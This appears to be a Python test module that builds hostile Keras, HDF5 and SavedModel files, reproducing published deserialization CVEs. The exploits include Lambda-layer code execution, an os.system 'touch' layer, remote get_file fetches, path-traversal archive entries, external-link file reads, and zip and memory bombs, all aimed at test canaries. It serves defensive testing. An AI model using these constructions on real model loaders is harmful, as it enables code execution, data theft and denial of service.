"""Hostile models: what was published of Keras from 2024 to 2026, and what else a file may name."""

from __future__ import annotations

import io
import json
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import tensorflow as tf

from tests.bad_worlds import MODEL
from tests.hostile import Case, Effect, Trap
from tests.small_world import SIDE, make_model

Json = dict[str, Any]


def replace_parts(trap: Trap, change: Callable[[dict[str, bytes]], None]) -> None:
    """Change the files in the archive `model.keras`."""
    file = trap.world.folder / "model.keras"
    with zipfile.ZipFile(file) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def change_config(trap: Trap, change: Callable[[Json], Any]) -> None:
    def edit(parts: dict[str, bytes]) -> None:
        config = json.loads(parts["config.json"])
        parts["config.json"] = json.dumps(change(config) or config).encode()

    replace_parts(trap, edit)


def part(module: str, name: str, config: Any, **more: Any) -> Json:
    return {"module": module, "class_name": name, "config": config, "registered_name": None} | more


def function(module: str, name: str) -> Json:
    return part(module, "function", name, registered_name=name)


def put_layer(trap: Trap, layer: Json) -> None:
    """Put a layer in place of the second, which only passes pixels on."""
    change_config(trap, lambda config: config["config"]["layers"][1].update(layer))


def put_kind(trap: Trap, kind: str, **config: Any) -> None:
    put_layer(trap, part("keras.layers", kind, config))


def put_call(trap: Trap, module: str, name: str, **arguments: Any) -> None:
    """Put a Lambda layer that calls a function of Keras with arguments of ours."""
    put_layer(trap, part("keras.layers", "Lambda", {"name": "call", "function": function(module, name),
                                                    "arguments": arguments}))  # fmt: skip


def save(trap: Trap, layers: list[Any], *, shape: Any = (SIDE, SIDE, 1), name: str = "model.keras") -> None:
    """Save a model of these layers, as whoever makes a hostile one would."""
    file = trap.world.folder / name
    with warnings.catch_warnings(action="ignore"):
        keras.Sequential([keras.Input(shape), *layers, keras.layers.Dense(3)]).save(file)
    trap.world.replace(MODEL, f'source = "{name}"\n')


def save_with_code(trap: Trap, name: str = "model.keras") -> None:
    code = f"open({str(trap.sprung)!r}, 'w')"
    run = eval(f"lambda x: ({code}, x)[1]")
    call = keras.layers.Lambda(run, output_shape=(SIDE, SIDE, 1))
    save(trap, [call, keras.layers.Flatten()], name=name)
    trap.sprung.write_text("CANARY = 1\n")


def as_hdf5(trap: Trap) -> Path:
    file = trap.world.folder / "model.h5"
    with warnings.catch_warnings(action="ignore"):
        make_model().save(file)
    trap.world.replace(MODEL, 'source = "model.h5"\n')
    return file


def change_hdf5_config(trap: Trap, change: Callable[[Json], Any]) -> None:
    with h5py.File(as_hdf5(trap), "r+") as content:
        config = json.loads(content.attrs["model_config"])
        content.attrs["model_config"] = json.dumps(change(config) or config)


def put_hdf5_layer(trap: Trap, layer: Json) -> None:
    change_hdf5_config(trap, lambda config: config["config"]["layers"][1].update(layer))


KERNEL = "layers/dense/vars/0"


def change_weights(trap: Trap, change: Callable[[h5py.File], Any]) -> None:
    """Change the weights in the archive; `change` is given the file without the kernel of the head."""

    def edit(parts: dict[str, bytes]) -> None:
        buffer = io.BytesIO(parts["model.weights.h5"])
        with h5py.File(buffer, "r+") as content:
            del content[KERNEL]
            change(content)
        parts["model.weights.h5"] = buffer.getvalue()

    replace_parts(trap, edit)


def link_out(trap: Trap) -> Path:
    """A file of HDF5 that somebody keeps to himself."""
    trap.secret.unlink()
    with h5py.File(trap.secret, "w") as content:
        content["kernel"] = np.ones((SIDE * SIDE, 3), np.float32)
    return trap.secret


def map_other(trap: Trap) -> h5py.VirtualLayout:
    layout = h5py.VirtualLayout((SIDE * SIDE, 3), np.float32)
    layout[:] = h5py.VirtualSource(str(link_out(trap)), "kernel", (SIDE * SIDE, 3))
    return layout


def bomb(content: Any, name: str) -> None:
    """An array of a terabyte of which nothing is stored."""
    content.create_dataset(name, (10**6, 2**18), np.float32, chunks=(1000, 1000), compression="gzip")


def zip_bomb(trap: Trap, name: str, data: bytes) -> None:
    file = trap.world.folder / "model.keras"
    with zipfile.ZipFile(file) as archive:
        parts = {other: archive.read(other) for other in archive.namelist()}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for other, kept in parts.items():
            if other != name:
                archive.writestr(other, kept)
        with archive.open(name, "w", force_zip64=True) as member:
            for _ in range(1536):
                member.write(data)


def nest(trap: Trap, depth: int = 30) -> None:
    """A model that calls one twice that calls one twice: as many calls as no machine makes."""

    def make(inner: int) -> Json:
        given = {
            "class_name": "InputLayer",
            "module": "keras.layers",
            "registered_name": None,
            "name": "given",
            "inbound_nodes": [],
            "config": {"batch_shape": [None, SIDE, SIDE, 1], "dtype": "float32", "name": "given"},
        }
        tensor = {"class_name": "__keras_tensor__", "config": {"shape": [None, SIDE, SIDE, 1], "dtype": "float32"}}

        def call(name: str, at: int) -> Json:
            return {"args": [tensor | {"config": tensor["config"] | {"keras_history": [name, at, 0]}}], "kwargs": {}}

        layer = part("keras.layers", "Identity", {"name": "inner"}) if inner == 0 else make(inner - 1)
        layer = layer | {"name": "inner", "inbound_nodes": [call("given", 0), call("inner", 0)]}
        layer["config"] = layer["config"] | {"name": "inner"}
        ends = {"input_layers": [["given", 0, 0]], "output_layers": [["inner", 1 + (inner > 0), 0]]}
        return part("keras.src.models.functional", "Functional", {"name": "m", "trainable": True,
                                                                  "layers": [given, layer]} | ends)  # fmt: skip

    put_layer(trap, make(depth))


def export(trap: Trap, act: Callable[[], Any], *, when_loaded: bool = False) -> Path:
    """Save a SavedModel that acts when it is run, or as soon as it is loaded."""
    folder = trap.world.folder / "exported"

    class Acting(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.weights = tf.Variable(make_model().get_layer("head").get_weights()[0])

        @tf.function(input_signature=[tf.TensorSpec((None, SIDE, SIDE, 1), tf.float32)])
        def __call__(self, images: Any) -> Any:
            with tf.control_dependencies([tf.identity(0.0) if when_loaded else tf.cast(act(), tf.float32)]):
                return tf.reshape(images, (-1, SIDE * SIDE)) @ self.weights

    module = Acting()
    if when_loaded:
        module.resource = ActingWhenLoaded(act)
    tf.saved_model.save(module, str(folder), signatures=module.__call__)
    trap.world.replace(MODEL, 'source = "exported"\ninput_range = [0, 1]\n')
    trap.sprung.write_text("CANARY = 1\n")
    return folder


class ActingWhenLoaded(tf.saved_model.experimental.TrackableResource):
    """A resource whose initialiser acts: TensorFlow calls it when it loads a model."""

    def __init__(self, act: Callable[[], Any]) -> None:
        super().__init__()
        self._act = act
        self._resource_handle = self._create_resource()
        self._initialize()

    def _create_resource(self) -> Any:
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=())

    def _initialize(self) -> None:
        self._act()


def write_file(trap: Trap) -> Any:
    def act() -> Any:
        tf.io.write_file(str(trap.sprung), "sprung")
        return 0

    return act


def in_python(trap: Trap) -> Any:
    return lambda: tf.py_function(lambda: float(trap.sprung.write_text("sprung")), [], tf.float32)


def loop_without_end() -> Any:
    return tf.while_loop(lambda n: n < 2, lambda n: (n * 1.0,), [tf.constant(1.0)])[0]


def link_variables(trap: Trap) -> None:
    folder = export(trap, lambda: 0)
    shard = next((folder / "variables").glob("variables.data-*"))
    trap.secret.write_bytes(shard.read_bytes())
    shard.unlink()
    shard.symlink_to(trap.secret)


def weights_only(trap: Trap, change: Callable[[h5py.File], Any]) -> None:
    """Weights for a model that comes with Keras."""
    file = trap.world.folder / "mobile.weights.h5"
    with h5py.File(file, "w") as content:
        change(content.create_group("layers/conv2d/vars"))
    trap.world.save_images(images=np.zeros((42, 32, 32, 3), np.uint8))
    trap.world.replace(MODEL, 'source = "keras.applications:MobileNet"\nweights = "mobile.weights.h5"\n')


def keras_archive(
    effect: Effect, tries: str, build: Callable[[Trap], None], command: str = "validate {config}"
) -> Case:
    return Case(".keras", effect, tries, build, command)


def hdf5(effect: Effect, tries: str, build: Callable[[Trap], None]) -> Case:
    return Case(".h5", effect, tries, build)


def saved_model(effect: Effect, tries: str, build: Callable[[Trap], Any]) -> Case:
    return Case("SavedModel", effect, tries, build)


INIT = "init --model {folder}/model.keras --data {folder}/images.npz --output {folder}/new.toml"
LAYERS = keras.layers

MODELS = [
    keras_archive("write", "runs the code of a Lambda layer (CVE-2024-3660)", save_with_code),
    keras_archive("write", "the same, given to an audit", save_with_code, "audit {config} --quiet"),
    keras_archive("write", "the same, given to init", save_with_code, INIT),
    keras_archive("import", "names a function of any module (CVE-2025-1550)",
                  lambda trap: put_layer(trap, part("os", "system", {"command": f"touch {trap.sprung}"}))),
    keras_archive("import", "names a class of a module that lies beside it",
                  lambda trap: put_layer(trap, part("sprung_module", "Layer", {}))),
    keras_archive("connect", "calls get_file, which fetches and unpacks (CVE-2025-8747, CVE-2025-12060)",
                  lambda trap: put_call(trap, "keras.utils", "get_file", origin=f"{trap.address}/x.tar", extract=True)),
    keras_archive("write", "switches safe mode off before its code (CVE-2025-9906)",
                  lambda trap: put_call(trap, "keras.config", "enable_unsafe_deserialization")),
    keras_archive("write", "calls a function of Keras that writes a picture",
                  lambda trap: put_call(trap, "keras.visualization", "plot_image_gallery", path=str(trap.sprung))),
    keras_archive("connect", "calls a function of Keras that fetches a data set",
                  lambda trap: put_call(trap, "keras.datasets.mnist", "load_data")),
    keras_archive("write", "names a function that writes as an activation",
                  lambda trap: put_kind(trap, "Activation", activation=function("keras.utils", "save_img"))),
    keras_archive("read", "takes a vocabulary from a file (CVE-2025-12058)",
                  lambda trap: put_kind(trap, "StringLookup", vocabulary=str(trap.secret))),
    keras_archive("connect", "takes a vocabulary from the network (CVE-2025-12058)",
                  lambda trap: put_kind(trap, "TextVectorization", vocabulary=trap.address)),
    keras_archive("import", "holds a pickled module of PyTorch (CVE-2025-49655)",
                  lambda trap: put_kind(trap, "TorchModuleWrapper", module="gASVLg==")),
    keras_archive("read", "runs a SavedModel from another folder",
                  lambda trap: put_kind(trap, "TFSMLayer", filepath=str(trap.secret))),
    keras_archive("write", "holds a file that unpacks to outside",
                  lambda trap: replace_parts(trap, lambda parts: parts.update({"assets/../../sprung_module.py": b""}))),
    keras_archive("write", "holds a file that no model needs, to be unpacked",
                  lambda trap: replace_parts(trap, lambda parts: parts.update({"assets/sprung": b"sprung"}))),
    keras_archive("read", "has weights that are a link to another file (CVE-2026-1669)",
                  lambda trap: change_weights(trap, lambda content: content.update(
                      {KERNEL: h5py.ExternalLink(str(link_out(trap)), "kernel")}))),
    keras_archive("read", "has weights that are stored in another file (CVE-2026-1669)",
                  lambda trap: change_weights(trap, lambda content: content.create_dataset(
                      KERNEL, (SIDE * SIDE, 3), np.float32, external=[(str(link_out(trap)), 2048, 768)]))),
    keras_archive("read", "has weights that are a view of another file (CVE-2026-1669)",
                  lambda trap: change_weights(trap, lambda content: content.create_virtual_dataset(
                      KERNEL, map_other(trap)))),
    keras_archive("read", "has weights behind a soft link",
                  lambda trap: change_weights(trap, lambda content: content.update(
                      {KERNEL: h5py.SoftLink("/layers/conv2d/vars/0")}))),
    keras_archive("allocate", "has weights that say they are a terabyte (CVE-2026-0897)",
                  lambda trap: change_weights(trap, lambda content: bomb(content, KERNEL))),
    keras_archive("allocate", "has an architecture that unpacks to gigabytes",
                  lambda trap: zip_bomb(trap, "config.json", b" " * 2**20)),
    keras_archive("allocate", "has weights that unpack to gigabytes",
                  lambda trap: zip_bomb(trap, "model.weights.h5", bytes(2**20))),
    keras_archive("allocate", "declares a layer of a billion weights",
                  lambda trap: change_config(trap, lambda config: config["config"]["layers"][-1]["config"].update(
                      units=10**9))),
    keras_archive("allocate", "blows pictures up a hundred thousand times",
                  lambda trap: put_kind(trap, "UpSampling2D", name="rescaling", size=[10**5] * 2)),
    keras_archive("allocate", "blows pictures up as far as a tensor goes at once",
                  lambda trap: save(trap, [LAYERS.UpSampling2D(3000), LAYERS.GlobalMaxPooling2D()])),
    keras_archive("allocate", "takes pictures of a terabyte",
                  lambda trap: save(trap, [LAYERS.GlobalMaxPooling2D()], shape=(500_000, 500_000, 1))),
    keras_archive("allocate", "declares an array of a text of a gigabyte",
                  lambda trap: put_layer(trap, {"class_name": "__numpy__", "module": None,
                                                "config": {"value": ["x"], "dtype": "<U250000000"}})),
    keras_archive("loop", "goes through two million steps, one by one",
                  lambda trap: save(trap, [LAYERS.Flatten(), LAYERS.Dense(1), LAYERS.RepeatVector(2_000_000),
                                           LAYERS.SimpleRNN(1)])),
    keras_archive("loop", "calls a model twice that calls one twice, thirty times", nest),
    keras_archive("loop", "nests its architecture without end",
                  lambda trap: replace_parts(trap, lambda parts: parts.update({"config.json": b"[" * 10**6}))),
    hdf5("write", "runs the code of a Lambda layer (CVE-2025-9905)", lambda trap: save_with_code(trap, "model.h5")),
    hdf5("write", "calls a function of Keras that writes a picture",
         lambda trap: put_hdf5_layer(trap, part("keras.layers", "Lambda", {"name": "call", "function":
             function("keras.visualization", "plot_image_gallery"), "arguments": {"path": str(trap.sprung)}}))),
    hdf5("connect", "calls get_file, which fetches (CVE-2025-8747)",
         lambda trap: put_hdf5_layer(trap, part("keras.layers", "Lambda", {"name": "call", "function":
             function("keras.utils", "get_file"), "arguments": {"origin": trap.address}}))),
    hdf5("import", "names a class of a module that lies beside it",
         lambda trap: put_hdf5_layer(trap, part("sprung_module", "Layer", {}))),
    hdf5("read", "takes a vocabulary from a file",
         lambda trap: put_hdf5_layer(trap, part("keras.layers", "IntegerLookup", {"vocabulary": str(trap.secret)}))),
    hdf5("read", "has weights that are a link to another file",
         lambda trap: _replace_group(trap, lambda content, other: content.update(
             {"model_weights": h5py.ExternalLink(str(other), "kernel")}))),
    hdf5("allocate", "has weights that say they are a terabyte",
         lambda trap: _replace_group(trap, lambda content, other: bomb(content, "model_weights/head/kernel"))),
    hdf5("allocate", "declares a layer of a billion weights",
         lambda trap: change_hdf5_config(trap, lambda config: config["config"]["layers"][-1]["config"].update(
             units=10**9))),
    hdf5("loop", "holds a group that holds itself",
         lambda trap: _replace_group(trap, lambda content, other: content.create_group("model_weights").update(
             {"again": content["model_weights"]}))),
    Case(".weights.h5", "read", "are a link to another file",
         lambda trap: weights_only(trap, lambda group: group.update(
             {"0": h5py.ExternalLink(str(link_out(trap)), "kernel")}))),
    Case(".weights.h5", "allocate", "say that they are a terabyte",
         lambda trap: weights_only(trap, lambda group: bomb(group, "0"))),
    saved_model("write", "writes a file as soon as it is loaded",
                lambda trap: export(trap, write_file(trap), when_loaded=True)),
    saved_model("write", "writes a file when it is run", lambda trap: export(trap, write_file(trap))),
    saved_model("import", "calls Python", lambda trap: export(trap, in_python(trap))),
    saved_model("read", "reads a file",
                lambda trap: export(trap, lambda: tf.strings.length(tf.io.read_file(str(trap.secret))))),
    saved_model("read", "has variables that are a link to another file", link_variables),
    saved_model("connect", "asks a server for a data set",
                lambda trap: export(trap, lambda: tf.io.read_file(f"{trap.address}/x") == "")),
    saved_model("loop", "loops without end", lambda trap: export(trap, loop_without_end)),
    saved_model("allocate", "fills a tensor of a hundred gigabytes",
                lambda trap: export(trap, lambda: tf.reduce_max(tf.random.uniform((25, 10**9))))),
]  # fmt: skip


def _replace_group(trap: Trap, change: Callable[[h5py.File, Path], Any]) -> None:
    with h5py.File(as_hdf5(trap), "r+") as content:
        del content["model_weights"]
        change(content, link_out(trap))
